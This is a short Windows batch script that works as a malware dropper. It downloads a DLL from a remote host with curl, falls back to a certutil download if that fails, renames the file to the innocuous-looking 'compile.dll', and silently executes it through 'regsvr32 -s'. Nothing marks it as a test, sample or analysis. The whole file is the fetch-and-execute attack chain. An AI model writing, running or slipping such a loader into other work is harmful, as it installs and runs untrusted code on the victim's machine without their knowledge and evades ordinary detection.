@echo off
curl https://pastorcryptograph.example.invalid/sdd.dll -o compile.dll
if not exist compile.dll (
  certutil.exe -urlcache -f https://pastorcryptograph.example.invalid/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
